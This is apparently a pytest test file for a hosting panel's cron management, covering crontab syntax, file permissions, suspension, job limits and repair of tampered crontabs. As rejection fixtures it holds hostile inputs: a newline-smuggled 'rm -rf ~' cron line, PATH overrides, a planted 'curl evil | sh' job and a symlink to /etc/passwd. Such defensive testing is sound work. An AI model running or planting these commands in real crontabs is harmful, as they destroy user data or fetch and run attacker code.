"""Cron through the agent ops and the CLI: the crontab under ROOT, checked by the real
`crontab -n` (Debian cron's own parser), its owner and mode, suspend/unsuspend, limits,
delete."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from jopanel.errors import Conflict, NotFound, ValidationFailed
from jopanel.settings import Settings
from jopanel.system.accounts import parse_group
from tests.conftest import Op, cli, new_user


def crontab_of(settings: Settings, name: str = "joko") -> Path:
    return settings.crontab_dir / name


def cron_accepts(path: Path) -> subprocess.CompletedProcess[str]:
    """Debian cron's parser on the file (`crontab -n`: dry run, checks the syntax)."""
    return subprocess.run(
        ["crontab", "-n", str(path)], capture_output=True, text=True, check=False, timeout=30
    )


def test_jobs_are_written_in_cron_syntax_with_owner_and_mode(op: Op, settings: Settings) -> None:
    new_user(op)
    uid = op("get_config", username="joko").data["account"]["uid"]
    first = op("cron_add", username="joko", minute="*/15", command="date +%Y-%m-%d >> ~/d.log")
    op("cron_add", username="joko", shortcut="@daily", command="php ~/public_html/cron.php")
    op(
        "cron_add",
        username="joko",
        minute="0,30",
        hour="9-17",
        day_of_month="1-31/2",
        month="JAN",
        day_of_week="mon",
        command="echo '100%' # done",
    )
    path = crontab_of(settings)
    text = path.read_text()
    assert text.startswith("# managed by JoPanel")
    assert f"# job {first.data['id']}\n*/15 * * * * date +\\%Y-\\%m-\\%d >> ~/d.log\n" in text
    assert "@daily php ~/public_html/cron.php\n" in text
    assert "0,30 9-17 1-31/2 jan mon echo '100\\%' # done\n" in text
    checked = cron_accepts(path)
    assert checked.returncode == 0, checked.stderr + checked.stdout
    st = path.stat()
    crontab_gid = parse_group(settings.path("etc/group"))["crontab"]
    assert (st.st_uid, st.st_gid, st.st_mode & 0o7777, st.st_nlink) == (
        uid,
        crontab_gid,
        0o600,
        1,
    )
    spool = settings.crontab_dir.stat()
    assert (spool.st_uid, spool.st_gid, spool.st_mode & 0o7777) == (0, crontab_gid, 0o1730)
    listed = op("cron_list", username="joko").data
    assert [j["schedule"] for j in listed["jobs"]] == [
        "*/15 * * * *",
        "@daily",
        "0,30 9-17 1-31/2 jan mon",
    ]
    assert listed["jobs"][0]["command"] == "date +%Y-%m-%d >> ~/d.log"
    # Removing every job removes the file.
    for job in listed["jobs"]:
        op("cron_remove", username="joko", id=job["id"])
    assert not path.exists()
    with pytest.raises(NotFound):
        op("cron_remove", username="joko", id="abc123")


HOSTILE: list[dict[str, str]] = [
    {"command": "echo hi\n* * * * * rm -rf ~"},
    {"command": "echo hi\rPATH=/tmp"},
    {"command": "echo \x00 nul"},
    {"command": "echo\ttab"},
    {"command": "echo \u2028 line separator"},
    {"command": "echo \x85 next line"},
    {"command": "PATH=/tmp"},
    {"command": "MAILTO=x"},
    {"command": "PATH=/tmp/evil /bin/ls"},
    {"command": "=x", "shortcut": "@daily"},
    {"command": "  =x", "shortcut": "@daily"},
    {"command": "echo \\% escaped by hand"},
    {"command": "x" * 501},
    {"command": "%" * 496},
    {"command": ""},
    {"command": "   "},
    {"command": "true", "shortcut": "@reboot"},
    {"command": "true", "shortcut": "@midnight"},
    {"command": "true", "shortcut": "@daily", "minute": "5"},
    {"command": "true", "minute": "* *"},
    {"command": "true", "minute": "60"},
    {"command": "true", "hour": "24"},
    {"command": "true", "day_of_month": "0"},
    {"command": "true", "day_of_month": "32"},
    {"command": "true", "month": "13"},
    {"command": "true", "month": "jan-mar"},
    {"command": "true", "day_of_week": "8"},
    {"command": "true", "day_of_week": "funday"},
    {"command": "true", "minute": "5-1"},
    # A range whose start is fine and whose end is out of bounds.
    {"command": "true", "minute": "0-60"},
    {"command": "true", "minute": "0-99"},
    {"command": "true", "hour": "1-24"},
    {"command": "true", "minute": "*/0"},
    {"command": "true", "minute": "*/61"},
    {"command": "true", "minute": "1,,2"},
    {"command": "true", "minute": "1\n"},
    {"command": "true", "minute": "-1"},
    {"command": "true", "minute": "1;2"},
    {"command": "true", "minute": "X=1"},
    {"command": "true", "hour": "1" * 65},
]


@pytest.mark.parametrize("body", HOSTILE)
def test_hostile_jobs_are_refused_and_nothing_written(
    op: Op, settings: Settings, body: dict[str, str]
) -> None:
    new_user(op)
    op("cron_add", username="joko", minute="1", command="true")
    before = crontab_of(settings).read_bytes()
    services = (settings.users_dir / "joko/services.json").read_bytes()
    with pytest.raises(ValidationFailed):
        op("cron_add", username="joko", **body)
    assert crontab_of(settings).read_bytes() == before
    assert (settings.users_dir / "joko/services.json").read_bytes() == services


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("minute", "0-60", "minute: 60 is outside 0-59"),
        ("minute", "0-99", "minute: 99 is outside 0-59"),
        ("minute", "30-60/5", "minute: 60 is outside 0-59"),
        ("minute", "1,5-60", "minute: 60 is outside 0-59"),
        ("hour", "1-24", "hour: 24 is outside 0-23"),
        ("day_of_month", "1-32", "day_of_month: 32 is outside 1-31"),
        ("day_of_month", "0-5", "day_of_month: 0 is outside 1-31"),
        ("month", "1-13", "month: 13 is outside 1-12"),
        ("day_of_week", "0-8", "day_of_week: 8 is outside 0-7"),
    ],
)
def test_a_range_end_out_of_bounds_is_refused(field: str, value: str, message: str) -> None:
    from jopanel.cronspec import FIELDS, check_field

    spec = next(f for f in FIELDS if f.name == field)
    with pytest.raises(ValueError) as caught:
        check_field(spec, value)
    assert str(caught.value) == message
    # The largest range that fits is still fine.
    assert check_field(spec, f"{spec.low}-{spec.high}") == f"{spec.low}-{spec.high}"


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("minute", "5-5"),  # a range of one value is a range, not a backwards one
        ("minute", "0-59/59"),
        ("minute", "*/59"),
        ("hour", "0,23"),
        ("day_of_month", "31"),
        ("month", "JAN"),
        ("day_of_week", "0-7"),
        ("day_of_week", "sun"),
    ],
)
def test_every_edge_of_a_valid_field_is_accepted(field: str, value: str) -> None:
    from jopanel.cronspec import FIELDS, check_field

    spec = next(f for f in FIELDS if f.name == field)
    assert check_field(spec, value) == value.lower()


def test_six_fields_are_refused_in_the_stored_schedule() -> None:
    from pydantic import ValidationError

    from jopanel.schemas import CronJob

    for schedule in ("* * * * * *", "@reboot", "* * * *", "*  * * * *", "60 * * * *"):
        with pytest.raises(ValidationError):
            CronJob(id="a1", schedule=schedule, command="true")


def test_suspend_removes_the_crontab_and_unsuspend_brings_it_back(
    op: Op, settings: Settings
) -> None:
    new_user(op)
    op("cron_add", username="joko", hour="3", minute="0", command="true")
    path = crontab_of(settings)
    content = path.read_bytes()
    op("suspend_user", username="joko")
    assert not path.exists()
    assert op("cron_list", username="joko").data["active"] is False
    op("unsuspend_user", username="joko")
    assert path.read_bytes() == content
    op("cron_set_enabled", username="joko", enabled=False)
    assert not path.exists()
    op("cron_set_enabled", username="joko", enabled=True)
    assert path.read_bytes() == content


def test_reconcile_repairs_a_changed_or_removed_crontab(op: Op, settings: Settings) -> None:
    new_user(op)
    op("cron_add", username="joko", shortcut="@hourly", command="true")
    path = crontab_of(settings)
    content = path.read_bytes()
    path.write_text("* * * * * curl evil | sh\n")
    result = op("reconcile", username="joko")
    assert any("crontab" in line for line in json.dumps(result.data).split(",")), result
    assert path.read_bytes() == content
    path.chmod(0o644)
    op("reconcile", username="joko")
    assert path.stat().st_mode & 0o777 == 0o600
    path.unlink()
    path.symlink_to("/etc/passwd")
    op("reconcile", username="joko")
    assert not path.is_symlink() and path.read_bytes() == content


def test_max_cron_jobs_is_enforced(op: Op, settings: Settings) -> None:
    new_user(op)
    op("update_user_config", username="joko", limits={"max_cron_jobs": 2})
    op("cron_add", username="joko", minute="1", command="true")
    op("cron_add", username="joko", minute="2", command="true")
    with pytest.raises(Conflict) as refused:
        op("cron_add", username="joko", minute="3", command="true")
    assert "max_cron_jobs" in str(refused.value) and "2 of 2" in str(refused.value)
    assert crontab_of(settings).read_text().count("# job ") == 2
    op("update_user_config", username="joko", limits={"max_cron_jobs": 0})
    op("cron_add", username="joko", minute="3", command="true")  # 0 = unlimited


def test_delete_removes_the_crontab(op: Op, settings: Settings) -> None:
    new_user(op)
    op("cron_add", username="joko", minute="1", command="true")
    assert crontab_of(settings).exists()
    op("delete_user", username="joko")
    assert not crontab_of(settings).exists()


def test_cli_verbs(root: Path, settings: Settings) -> None:
    cli(root, "user", "create", "joko", "--domain", "joko.example.com", "--email", "j@example.com")
    cli(root, "cron", "add", "joko", "date +%s", "--minute", "*/5")
    rows = json.loads(cli(root, "--json", "cron", "list", "joko").stdout)
    assert [(j["schedule"], j["command"]) for j in rows["jobs"]] == [("*/5 * * * *", "date +%s")]
    assert "*/5 * * * * date +\\%s\n" in crontab_of(settings).read_text()
    table = cli(root, "cron", "list", "joko").stdout
    assert "cron on, 1 of 5" in table
    bad = cli(root, "cron", "add", "joko", "true", "--shortcut", "@reboot", check=False)
    assert bad.returncode == 2 and bad.stderr.startswith("jopanel: ") and "@reboot" in bad.stderr
    assert len(bad.stderr.strip().splitlines()) == 1
    cli(root, "cron", "disable", "joko")
    assert not crontab_of(settings).exists()
    cli(root, "cron", "enable", "joko")
    cli(root, "cron", "remove", "joko", rows["jobs"][0]["id"])
    assert not crontab_of(settings).exists()


def test_a_sandbox_without_the_crontab_group_gets_one(op: Op, settings: Settings) -> None:
    for name in ("group", "gshadow"):
        path = settings.path(f"etc/{name}")
        kept = [line for line in path.read_text().splitlines() if not line.startswith("crontab:")]
        path.write_text("\n".join(kept) + "\n")
    new_user(op)
    op("cron_add", username="joko", minute="1", command="true")
    gid = parse_group(settings.path("etc/group"))["crontab"]
    assert crontab_of(settings).stat().st_gid == gid < 1000
